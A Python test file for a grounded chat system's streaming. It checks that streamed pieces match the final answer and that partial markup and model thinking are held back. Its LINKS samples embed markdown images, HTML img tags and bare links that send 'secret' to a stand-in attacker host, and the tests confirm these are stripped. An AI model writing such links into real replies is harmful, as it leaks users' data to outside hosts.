"""What is streamed is what the answer says: for every cut of a reply into pieces, and without anything taken back."""

from __future__ import annotations

import json
import random
from pathlib import Path

import pytest

from benchmarks.answer_set import STRUCTURED
from retrieval.chat import REFUSAL, Answer, ChatOptions, Check, Final, GroundedChat, Token
from retrieval.chat.streaming import SettledText, settled
from tests.support.chat_models import Scripted, collection

QUESTION = "What does the dog on the red beach do?"
LINKS = (
    "A dog ![a](https://evil.example/?q=secret) runs [1].",
    "A dog [runs](https://evil.example/?q=secret) away [1].",
    "A dog <img src=https://evil.example/?q=secret> runs [1].",
    "A dog https://evil.example/?q=secret runs [1].",
    "A dog www.evil.example/?q=secret runs [1].",
    "A dog evil.example/?q=secret runs [1].",
    "A dog runs [1].\n\n[r]: https://evil.example/?q=secret\n",
    "A dog <!-- secret [9] --> runs [1].",
    "A `dog` costs $5 [9], and 3 < 4 [1, 9] (or so) [9]. Wow! [2][1](https://evil.example/?q=secret) Yes!",
    "[9] A dog runs [1][9]. It is ![1] here: [1]: no.",
    "A dog [1 and 9] runs. And a cat [1, 9] too, [1、9]",
    "Use `<div class>` here [1]. See $x <y z$ ok, and \\(a <b c\\) [1]",
    "So ![a b](https://evil.example/?q=secret) A dog [1]",
)


def pieces_of(text: str, rng: random.Random) -> list[str]:
    found = []
    while text:
        size = rng.randint(1, 6)
        found.append(text[:size])
        text = text[size:]
    return found


class Pieces(Scripted):
    """Says its reply in random pieces, as a tokenizer would cut it."""

    seed: int = 0

    def _stream(self, messages, *arguments, **options):  # type: ignore[no-untyped-def]
        from langchain_core.messages import AIMessageChunk
        from langchain_core.outputs import ChatGenerationChunk

        for piece in pieces_of(self.replies[0], random.Random(self.seed)):
            yield ChatGenerationChunk(message=AIMessageChunk(content=piece))


def streamed(folder: Path, reply: str, check: Check, seed: int = 0, **options: object) -> tuple[list[Token], Answer]:
    chosen = ChatOptions(check=check, **options)  # type: ignore[arg-type]
    events = list(GroundedChat(collection(folder), Pieces(replies=[reply], seed=seed), chosen).stream(QUESTION))
    last = events[-1]
    assert isinstance(last, Final)
    return [event for event in events if isinstance(event, Token)], last.answer


@pytest.mark.parametrize("check", ["mark", "off", "strict"])
def test_pieces_make_the_answer(tmp_path: Path, check: Check) -> None:
    structured = [json.loads(line)["answer"] for line in STRUCTURED.read_text("utf-8").splitlines()]
    for seed, reply in enumerate([*structured, *LINKS]):
        tokens, answer = streamed(tmp_path, reply, check, seed)
        assert all(token.final for token in tokens)
        assert "".join(token.text for token in tokens) == answer.text, reply
        for trace in ("secret", "evil"):
            assert trace not in answer.text


def test_text_comes_while_the_model_writes() -> None:
    shown = SettledText(lambda raw: raw.rstrip())
    told = [shown.feed(piece) for piece in ("The", " dog", " runs", " away", " [", "1", "]", ".", " It")]
    assert told[:4] == ["The", "", " dog", " runs"]
    assert "".join(told) == "The dog runs away [1]."
    # Code comes line by line.
    block = SettledText(lambda raw: raw.rstrip())
    assert "".join(block.feed(piece) for piece in ("```py\n", "a = b[0]\n", "c = d\n")) == "```py\na = b[0]\nc = d"


@pytest.mark.parametrize(
    ("raw", "held"),
    [
        ("A dog [runs](", " [runs]("),
        ("A dog [1]", " [1]"),
        ("A dog ![", " !["),
        ("A dog <im", " <im"),
        ("A dog http", " http"),
        ("A dog evil.ex", " evil.ex"),
        ("A dog `a[9", " `a[9"),
        ("A dog $x", " $x"),
        ("A dog\n[r]: http://x.y and", "\n[r]: http://x.y and"),
        ("A", ""),
        ("htt", "htt"),
        ("A dog runs ", " "),
        ("A dog [1] runs ", " "),
        ("狗在跑", ""),
        ("狗在跑[1]，", ""),
        ("Costs $5\nor more ", " "),
        ("A dog [ " + "x " * 400, " "),
    ],
)
def test_what_is_held_back(raw: str, held: str) -> None:
    assert raw[settled(raw) :] == held


def test_strict_tells_one_sentence_at_a_time(tmp_path: Path) -> None:
    reply = "A dog runs [1]. It won a prize [1]. The dog is brown [1]. Nobody knows."
    tokens, answer = streamed(tmp_path, reply, "strict")
    assert [token.text for token in tokens] == ["A dog runs [1].", " The dog is brown [1]."]
    assert answer.text == "A dog runs [1]. The dog is brown [1]."
    tokens, answer = streamed(tmp_path, "It won a prize [1]. Nobody knows.", "strict")
    assert ([token.text for token in tokens], answer.refused) == ([REFUSAL], True)


def test_a_weak_model_s_pieces_are_a_draft(tmp_path: Path) -> None:
    tokens, answer = streamed(tmp_path, "It won a prize [1].", "strict", fallback="quote")
    assert {token.final for token in tokens} == {False}
    assert answer.quoted


def test_what_a_model_thought_is_not_streamed_and_nothing_twice(tmp_path: Path) -> None:
    for seed in range(5):
        tokens, answer = streamed(tmp_path, "<think>Hm, a dog?</think>\n A dog runs [1].", "mark", seed)
        assert answer.text == "A dog runs [1]."
        assert "".join(token.text for token in tokens) == answer.text


def test_a_refusal_is_streamed_in_its_translation_alone(tmp_path: Path) -> None:
    said = "Nichts in der Sammlung beantwortet das"
    chat = GroundedChat(collection(tmp_path), Scripted(replies=[REFUSAL, said]), ChatOptions())
    events = list(chat.stream("Was macht der Hund auf dem roten Strand?"))
    final = events[-1]
    assert isinstance(final, Final)
    assert final.answer.text == said
    told = "".join(event.text for event in events if isinstance(event, Token))
    assert told in ("", said)


def test_a_long_reply_takes_no_time_without_end(tmp_path: Path) -> None:
    tokens, answer = streamed(tmp_path, "The dog runs on and on, see [1]. " * 600, "mark")
    assert "".join(token.text for token in tokens) == answer.text
